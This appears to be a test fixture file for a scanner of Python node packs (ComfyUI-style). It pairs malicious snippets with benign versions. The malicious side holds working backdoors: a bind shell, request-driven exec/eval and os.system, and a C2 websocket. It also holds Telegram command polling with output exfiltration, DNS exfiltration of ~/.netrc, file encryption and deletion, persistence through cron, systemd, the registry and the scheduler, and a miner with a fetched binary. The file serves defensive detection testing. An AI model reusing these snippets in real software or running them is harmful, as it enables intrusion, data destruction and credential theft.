import { type Attack, python } from './attack-pack.test-support.ts'

const routes = 'from server import PromptServer\nroutes = PromptServer.instance.routes\n'

/** Input of others that reaches a process, an evaluation, a file outside the pack, or an import. */
export const backdoors: Attack[] = [
  python(
    'lets a Flask route start what a request says',
    'import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route("/status")\ndef status():\n    return subprocess.getoutput(request.args.get("q"))',
    'import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route("/status")\ndef status():\n    return subprocess.getoutput("nvidia-smi") + request.args.get("q")',
  ),
  python(
    'lets a FastAPI route evaluate its body',
    'from fastapi import FastAPI, Request\napp = FastAPI()\n@app.post("/calc")\nasync def calc(request: Request):\n    body = await request.json()\n    return {"v": eval(body["expression"])}',
    'import ast\nfrom fastapi import FastAPI, Request\napp = FastAPI()\n@app.post("/calc")\nasync def calc(request: Request):\n    body = await request.json()\n    return {"v": ast.literal_eval(body["expression"])}',
  ),
  python(
    'lets a parameter of a FastAPI route name the module to import',
    'import importlib\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.get("/plugin")\ndef plugin(name: str, address: str):\n    return importlib.import_module(name).run(address)\n@app.get("/shell")\ndef shell(command: str):\n    import os\n    return os.popen(command).read()',
    'from fastapi import FastAPI\napp = FastAPI()\n@app.get("/plugin")\ndef plugin(name: str):\n    return {"name": name}',
  ),
  python(
    'answers a socket with a shell',
    'import socket, subprocess, threading\ndef serve():\n    s = socket.socket()\n    s.bind(("", 9009))\n    s.listen()\n    while True:\n        c, _ = s.accept()\n        command = c.recv(1024).decode()\n        c.send(subprocess.check_output(command, shell=True))\nthreading.Thread(target=serve, daemon=True).start()',
    'import socket, threading\ndef serve():\n    s = socket.socket()\n    s.bind(("127.0.0.1", 9009))\n    s.listen()\n    while True:\n        c, _ = s.accept()\n        c.send(c.recv(1024))\nthreading.Thread(target=serve, daemon=True).start()',
  ),
  python(
    'writes what a request sends to any place that it names',
    `${routes}@routes.post("/pack/save")\nasync def save(request):\n    data = await request.json()\n    with open(data["path"], "w") as f:\n        f.write(data["text"])`,
    `import os\n${routes}@routes.post("/pack/save")\nasync def save(request):\n    data = await request.json()\n    name = os.path.basename(data["name"])\n    with open(os.path.join(os.path.dirname(__file__), "presets", name), "w") as f:\n        f.write(data["text"])`,
  ),
  python(
    'returns any file that a request names',
    `from aiohttp import web\n${routes}@routes.get("/pack/read")\nasync def read(request):\n    return web.Response(body=open(request.query["file"], "rb").read())`,
    `from aiohttp import web\nimport os\n${routes}@routes.get("/pack/read")\nasync def read(request):\n    name = os.path.basename(request.query["file"])\n    return web.Response(body=open(os.path.join("presets", name), "rb").read())`,
  ),
  python(
    'starts a program with a handler of the standard server',
    'import os\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        n = int(self.headers["content-length"])\n        os.system(self.rfile.read(n).decode())\nHTTPServer(("", 8123), H).serve_forever()',
    'from http.server import BaseHTTPRequestHandler, HTTPServer\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        n = int(self.headers["content-length"])\n        self.wfile.write(self.rfile.read(n))\nHTTPServer(("127.0.0.1", 8123), H).serve_forever()',
  ),
  python(
    'runs messages of a socket of the web',
    'import asyncio, websockets\nasync def main():\n    async with websockets.connect("wss://c2.example.test") as ws:\n        async for message in ws:\n            exec(message)\nasyncio.run(main())',
    'import asyncio, json, websockets\nasync def main():\n    async with websockets.connect("wss://api.example.test") as ws:\n        async for message in ws:\n            print(json.loads(message))\nasyncio.run(main())',
  ),
  python(
    'polls a chat for commands',
    'import os, time, requests\ndef poll():\n    while True:\n        for m in requests.get("https://api.telegram.org/bot1234567890:AAabcdefghijklmnopqrstuvwxyz123456789/getUpdates").json()["result"]:\n            out = os.popen(m["message"]["text"]).read()\n            requests.post("https://example.test", data=out)\n        time.sleep(5)',
    'import time, requests\ndef poll(token):\n    while True:\n        for m in requests.get(f"https://api.telegram.org/bot{token}/getUpdates").json()["result"]:\n            print(m["message"]["text"])\n        time.sleep(5)',
  ),
  python(
    'adds a route without a decorator',
    'import subprocess\nfrom server import PromptServer\nasync def run(request):\n    subprocess.Popen((await request.text()).split())\nPromptServer.instance.app.router.add_route("POST", "/x", run)',
    'from server import PromptServer\nfrom aiohttp import web\nasync def run(request):\n    return web.Response(text=await request.text())\nPromptServer.instance.app.router.add_route("POST", "/x", run)',
  ),
  python(
    'keeps a middleware that runs a header',
    'from aiohttp import web\nfrom server import PromptServer\n@web.middleware\nasync def check(request, handler):\n    if "x-debug" in request.headers:\n        exec(request.headers["x-debug"])\n    return await handler(request)\nPromptServer.instance.app.middlewares.append(check)',
    'from aiohttp import web\nfrom server import PromptServer\n@web.middleware\nasync def check(request, handler):\n    if "x-debug" in request.headers:\n        print(request.headers["x-debug"])\n    return await handler(request)\nPromptServer.instance.app.middlewares.append(check)',
  ),
  python(
    'takes jobs from a queue and runs them',
    'import redis, pickle\nr = redis.Redis(host="queue.example.test")\nwhile True:\n    _, job = r.blpop("jobs")\n    fn, args = pickle.loads(job)\n    fn(*args)',
    'import redis, json\nr = redis.Redis(host="localhost")\nwhile True:\n    _, job = r.blpop("jobs")\n    print(json.loads(job))',
  ),
]

/** Files of the user that are encrypted, overwritten or deleted, and what stays when the pack is gone. */
export const destructions: Attack[] = [
  python(
    'encrypts the models',
    'import os, folder_paths\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\nfor root, _, names in os.walk(folder_paths.models_dir):\n    for name in names:\n        p = os.path.join(root, name)\n        data = f.encrypt(open(p, "rb").read())\n        open(p, "wb").write(data)',
    'import os, folder_paths, hashlib\nfor root, _, names in os.walk(folder_paths.models_dir):\n    for name in names:\n        p = os.path.join(root, name)\n        print(name, hashlib.sha256(open(p, "rb").read()).hexdigest())',
  ),
  python(
    'deletes everything that the user has made',
    'import shutil, folder_paths\nshutil.rmtree(folder_paths.get_output_directory())',
    'import shutil, os, folder_paths\nshutil.rmtree(os.path.join(folder_paths.get_temp_directory(), "my_pack"))',
  ),
  python(
    'overwrites the inputs with noise',
    'import os, folder_paths\nfor name in os.listdir(folder_paths.get_input_directory()):\n    with open(os.path.join(folder_paths.get_input_directory(), name), "wb") as f:\n        f.write(os.urandom(1024))',
    'import os, folder_paths\nfor name in os.listdir(folder_paths.get_input_directory()):\n    with open(os.path.join(folder_paths.get_input_directory(), name), "rb") as f:\n        print(len(f.read()))',
  ),
  python(
    'removes the checkpoints one by one',
    'import os, folder_paths\nfor name in folder_paths.get_filename_list("checkpoints"):\n    os.remove(folder_paths.get_full_path("checkpoints", name))',
    'import os, folder_paths\nfor name in folder_paths.get_filename_list("checkpoints"):\n    print(os.path.getsize(folder_paths.get_full_path("checkpoints", name)))',
  ),
  python(
    'empties the folder of other packs',
    'import os, shutil\nnodes = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\nfor name in os.listdir(nodes):\n    if name != "mine":\n        shutil.rmtree(os.path.join(nodes, name))',
    'import os, shutil\nmine = os.path.dirname(os.path.abspath(__file__))\nshutil.rmtree(os.path.join(mine, "cache"))',
  ),
  python(
    'sets up a service of the user',
    'import os, subprocess\nunit = os.path.expanduser("~/.config/systemd/user/render.service")\nopen(unit, "w").write("[Service]\\nExecStart=/tmp/x\\n")\nsubprocess.run(["systemctl", "--user", "enable", "--now", "render"])',
    'import subprocess\nsubprocess.run(["systemctl", "--user", "status", "render"])',
  ),
  python(
    'adds a task to the scheduler through a library',
    'import win32com.client\ns = win32com.client.Dispatch("Schedule.Service")\ns.Connect()\nt = s.NewTask(0)\na = t.Actions.Create(0)\na.Path = "C:\\\\Windows\\\\Temp\\\\x.exe"\ns.GetFolder("\\\\").RegisterTaskDefinition("Render", t, 6, "", "", 3)',
    'import win32com.client\ns = win32com.client.Dispatch("Photoshop.Application")\ns.Open("C:\\\\a.psd")',
  ),
  python(
    'adds itself to the jobs of cron by a library',
    'from crontab import CronTab\ncron = CronTab(user=True)\njob = cron.new(command="python3 /tmp/x.py")\njob.minute.every(5)\ncron.write()',
    'from croniter import croniter\nfrom datetime import datetime\nprint(croniter("*/5 * * * *", datetime.now()).get_next())',
  ),
  python(
    'writes a value that Windows starts',
    'import winreg\nkey = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "\\\\".join(["Software", "Microsoft", "Windows", "CurrentVersion", "Run"]), 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(key, "Upscaler", 0, winreg.REG_SZ, "pythonw x.py")',
    'import winreg\nkey = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, "SOFTWARE\\\\NVIDIA Corporation\\\\Global")\nwinreg.QueryValueEx(key, "Version")',
  ),
  python(
    'mines on the cards of the user',
    'import subprocess\nsubprocess.Popen(["./bin/engine", "-o", "stratum+tcp://pool.example.test:3333", "-u", "4AbcWallet", "--donate-level", "1"])',
    'import subprocess\nsubprocess.Popen(["./bin/engine", "-i", "in.png", "-o", "out.png"])',
  ),
  python(
    'fetches a miner as a wheel with another name',
    'import platform, subprocess, urllib.request, os, stat\nurl = "https://github.com/someone/releases/download/v1/ultra"\nplace = "/tmp/ultra"\nurllib.request.urlretrieve(url, place)\nos.chmod(place, os.stat(place).st_mode | stat.S_IEXEC)\nsubprocess.Popen([place], start_new_session=True)',
    'import subprocess, shutil\nplace = shutil.which("ffmpeg")\nsubprocess.Popen([place, "-version"], start_new_session=True)',
  ),
  python(
    'hides the user’s data in names that it looks up',
    'import os, socket, base64\ndef leak(data):\n    text = base64.b32encode(data).decode().strip("=")\n    for i in range(0, len(text), 50):\n        socket.gethostbyname(text[i:i + 50] + ".t.example.test")\nleak(open(os.path.expanduser("~/.netrc"), "rb").read())',
    'import socket\ndef resolve(host):\n    return socket.gethostbyname(host)\nresolve("huggingface.co")',
  ),
]
